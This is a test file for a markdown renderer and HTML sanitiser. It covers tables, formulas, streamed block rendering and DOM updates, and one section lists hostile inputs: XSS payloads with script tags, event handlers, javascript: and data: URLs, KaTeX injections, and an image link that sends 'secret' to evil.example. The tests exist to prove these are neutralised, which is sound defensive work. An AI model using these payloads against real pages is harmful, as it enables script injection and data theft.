// @vitest-environment jsdom
import { beforeEach, describe, expect, it } from 'vitest';
import { BlockRenderer, type Renderer } from './blocks';
import { blockStarts, render } from './render';
import { createSanitiser } from './sanitise';
import { become } from '../view/become';
import { typeset } from './typeset';

const sanitise = createSanitiser(window);
const page = (source: string) => sanitise(render(source));

describe('markdown', () => {
  it('has tables with alignment, code with a copy button, lists and quotes', () => {
    const p = page('| a | b |\n|---|--:|\n| 1 | 2 |\n\n```go\nfunc main() {}\n```\n\n- x\n  - y\n\n> q');
    expect(p.querySelector('td.right')?.textContent).toBe('2');
    expect(p.querySelector('figure.code figcaption span')?.textContent).toBe('go');
    expect(p.querySelector('.hljs-keyword')?.textContent).toBe('func');
    expect(p.querySelector('[data-action="copy-code"]')).not.toBeNull();
    expect(p.querySelector('li li')?.textContent).toBe('y');
  });
  it('shows tasks as boxes, in lists only', () => {
    const items = [...page('- [x] done\n- [ ] to do\n- [y] neither').querySelectorAll('li')].map(
      (li) => li.textContent,
    );
    expect(items).toEqual(['☑ done', '☐ to do', '[y] neither']);
    expect(page('[x] no list').textContent?.trim()).toBe('[x] no list');
  });
  it('sets formulas and leaves money alone', () => {
    expect(page('$a^2$').querySelector('.katex')).not.toBeNull();
    expect(page('$$\n\\frac{1}{2}\n$$').querySelector('.formula .katex-display')).not.toBeNull();
    expect(page('\\(x\\) and \\[y\\]').querySelectorAll('.katex')).toHaveLength(2);
    expect(page('It costs $5 and then $6.').querySelector('.katex')).toBeNull();
    expect(page('`$x$`').querySelector('.katex')).toBeNull();
    expect(page('$\\frac{1}$').textContent).toContain('frac'); // wrong formulas are shown as text
  });
  it('gives formulas their layout without style attributes', () => {
    const p = page('$x_1$');
    expect(p.querySelector('[style]')).toBeNull();
    expect(p.querySelector('[data-style]')).not.toBeNull();
  });
});

describe('hostile markdown', () => {
  const HOSTILE = [
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<iframe src="https://evil.example"></iframe>',
    '<math><mtext><img src=x onerror=alert(1)></mtext></math>', '![x](https://evil.example/?q=secret)', '![x](javascript:alert(1))', '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))', '[x](data:text/html;base64,PHNjcmlwdD4=)', '[x](vbscript:x)', '[x](file:///etc/passwd)', '<javascript:alert(1)>',
    '$\\href{javascript:alert(1)}{x}$', '$\\url{javascript:alert(1)}$', '$\\includegraphics{https://evil.example/x.png}$', '$\\htmlData{style=x}{y}$', '$\\htmlStyle{background:url(https://evil.example)}{x}$',
    '$\\def\\a{\\a\\a}\\a$', '<a href="https://x" onclick="alert(1)">x</a>', '<form action="https://evil.example"><input></form>', '<base href="https://evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<link rel=stylesheet href=https://evil.example>', '<style>@import "https://evil.example"</style>', '<object data="x">', '<embed src="x">',
    '```"><img src=x onerror=alert(1)>\nx\n```', '```html\n<script>alert(1)</script>\n```', '<button data-action="x" onclick="alert(1)">', '[x]: javascript:alert(1)\n\n[x]',
    '<div style="background:url(https://evil.example)">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<svg><animate onbegin=alert(1)></svg>', '<template><script>alert(1)</script></template>',
  ]; // prettier-ignore
  it.each(HOSTILE)('is harmless: %s', (source) => {
    harmless(page(source));
    harmless(sanitise(source)); // as if the renderer had let it through
  });
  const harmless = (p: HTMLElement) => {
    expect(
      p.querySelector(
        'script, iframe, object, embed, img, form, input, base, meta, link, style, template, foreignObject, animate',
      ),
    ).toBeNull();
    for (const element of p.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on/);
        if (name === 'href') expect(value).toMatch(/^https?:\/\//);
        expect(name).not.toBe('style');
        if (name === 'data-style') expect(value).not.toMatch(/url|expression|import/i);
      }
    }
    expect(p.querySelector('button:not([data-action="copy-code"])')).toBeNull();
  };
  it('takes no longer for deep nesting', () => {
    const began = performance.now();
    for (const unit of ['> ', '- ', '*a ', '[', '**', '`', '$', '(', '|a']) page(unit.repeat(3000));
    expect(performance.now() - began).toBeLessThan(20_000);
  });
});

describe('growing text', () => {
  const TEXT =
    '# Title\n\nA paragraph that *grows*.\n\n```go\nx := 1\n\ny := 2\n```\n\n1. one\n2. two\n\n   still two\n\n$$\na\n$$\n\n| a |\n|---|\n| 1 |\n\nThe end.';
  let calls: string[];
  let renderer: Renderer;
  beforeEach(() => {
    calls = [];
    renderer = {
      render(source) {
        calls.push(source);
        return render(source);
      },
      blockStarts,
    };
  });
  const html = (blocks: { html: string }[]) => blocks.map((b) => b.html).join('');

  it('ends as if it had been rendered whole, wherever the pieces were cut', () => {
    for (const step of [1, 3, 7, 50]) {
      const r = new BlockRenderer(renderer);
      for (let i = step; i < TEXT.length; i += step) r.update(TEXT.slice(0, i), false);
      expect(html(r.update(TEXT, true))).toBe(render(TEXT));
    }
  });
  it('renders complete blocks once and keeps them', () => {
    const r = new BlockRenderer(renderer);
    const first = r.update('one\n\ntwo\n\nthr', false);
    calls.length = 0;
    const second = r.update('one\n\ntwo\n\nthree', false);
    expect(calls).toEqual(['three']);
    expect(second[0]).toBe(first[0]);
  });
  it('renders a block once more only if it has changed when it is complete', () => {
    const r = new BlockRenderer(renderer);
    r.update('one *word*', false);
    calls.length = 0;
    expect(r.update('one *word*\n\ntwo', false)[0]?.html).toBe('<p>one <em>word</em></p>\n');
    expect(calls).toEqual(['two']);
    const code = '```go\n' + 'x := 1\n'.repeat(2000);
    r.update(code, false); // too long to be rendered whole at every piece
    expect(html(r.update(code + '```\n\nthree', false))).toBe(render(code + '```') + render('three'));
    r.update(code, false);
    expect(html(r.update(code, true))).toBe(render(code));
  });
  it('bounds the work of a piece by the block, not by the answer', () => {
    const r = new BlockRenderer(renderer);
    let text = '';
    let work = 0;
    for (let i = 0; i < 200; i++) {
      for (const piece of ['\n\nSome words about it.\n\n```js\n', 'const a = 1;\n', 'const b = 2;\n', '```']) {
        text += piece;
        calls.length = 0;
        r.update(text, false);
        work = Math.max(
          work,
          calls.reduce((n, s) => n + s.length, 0),
        );
      }
    }
    expect(text.length).toBeGreaterThan(10_000);
    expect(work).toBeLessThan(400);
  });
  it('starts over when the text is another one, and resolves references at the end', () => {
    const r = new BlockRenderer(renderer);
    r.update('old\n\ntext', false);
    expect(html(r.update('new', true))).toBe('<p>new</p>\n');
    const text = 'see [x]\n\nmore\n\nand more\n\n[x]: https://example.org';
    r.update(text.slice(0, 25), false);
    expect(html(r.update(text, false))).not.toContain('href');
    expect(html(r.update(text, true))).toContain('href="https://example.org"');
  });
});

describe('blocks on the page', () => {
  const block = (n: number) => ({ source: `s${n}`, html: `<p>${n}</p>` });
  it('lie in sections, in order, and only those that changed are touched', () => {
    const node = document.createElement('div');
    const blocks = Array.from({ length: 40 }, (_, i) => block(i));
    const { update } = typeset(node, blocks);
    expect(node.querySelectorAll('.section')).toHaveLength(3);
    expect(node.textContent).toBe(blocks.map((_, i) => i).join(''));
    const first = node.querySelector('p');
    update([...blocks.slice(0, 39), { source: 'new', html: '<h2>new</h2>' }, block(40)]);
    expect(node.querySelector('p')).toBe(first);
    expect(node.querySelector('.heading')?.textContent).toBe('new');
    update(blocks.slice(0, 3));
    expect([node.querySelectorAll('.section').length, node.textContent]).toEqual([1, '012']);
    update([]);
    expect(node.childElementCount).toBe(0);
  });
});

describe('a growing block', () => {
  const node = (markup: string) => {
    const div = document.createElement('div');
    div.innerHTML = markup;
    return div;
  };
  it('becomes what it would be if it were replaced', () => {
    const states = [
      '', 'plain', '<p>one</p>', '<p>one <em>two</em></p>', '<p>one <em>two</em> three</p>', '<p>one <strong>two</strong></p>', '<ul><li>one</li></ul>', '<ul><li class="x">one</li><li>two</li></ul>',
      '<p title="x">one</p>', '<p class="x" title="x">one</p>', '<p class="y">one</p>', '<svg><path d="M0"></path></svg>', '<math><mi>x</mi></math>',
      '<figure class="code"><pre><code><span class="a">func</span> f(</code></pre></figure>', '<figure class="code"><pre><code><span class="a">func</span> <span class="b">f</span>() {</code></pre></figure>', 'a<!--c-->b', '',
    ]; // prettier-ignore
    for (const from of states) {
      for (const to of states) {
        const old = node(from);
        become(old, node(to));
        expect(old.innerHTML).toBe(to);
      }
    }
  });
  it('becomes what it would be if it were set whole: links, formulas, code, tables, lists', () => {
    const text =
      'A *word* [a link](https://example.org)\n\n```go\nfunc f() {}\n```\n\n$$\n\\frac{1}{2}\n$$\n\n$x_1^2$\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n- one\n\n- two\n  - three';
    const old = document.createElement('div');
    for (let n = 3; n < text.length + 3; n += 3) {
      const fresh = page(text.slice(0, n));
      const want = fresh.innerHTML;
      become(old, fresh);
      expect(old.innerHTML).toBe(want);
    }
  });
  it('keeps what is selected in text that grows', () => {
    const old = node('<p>one tw</p>');
    document.body.replaceChildren(old);
    const text = old.firstChild?.firstChild;
    if (!text) throw new Error('no text');
    getSelection()?.setBaseAndExtent(text, 0, text, 3);
    become(old, node('<p>one two <b>three</b></p>'));
    expect(getSelection()?.toString()).toBe('one');
  });
  it('keeps what did not change, and the text that grew', () => {
    const old = node('<p><b>one</b> tw</p><p>three</p>');
    const kept = [old.querySelector('b'), old.querySelector('p')?.lastChild, old.lastChild];
    become(old, node('<p><b>one</b> two</p><p>three</p>'));
    expect([old.querySelector('b'), old.querySelector('p')?.lastChild, old.lastChild]).toEqual(kept);
    expect(old.innerHTML).toBe('<p><b>one</b> two</p><p>three</p>');
  });
});
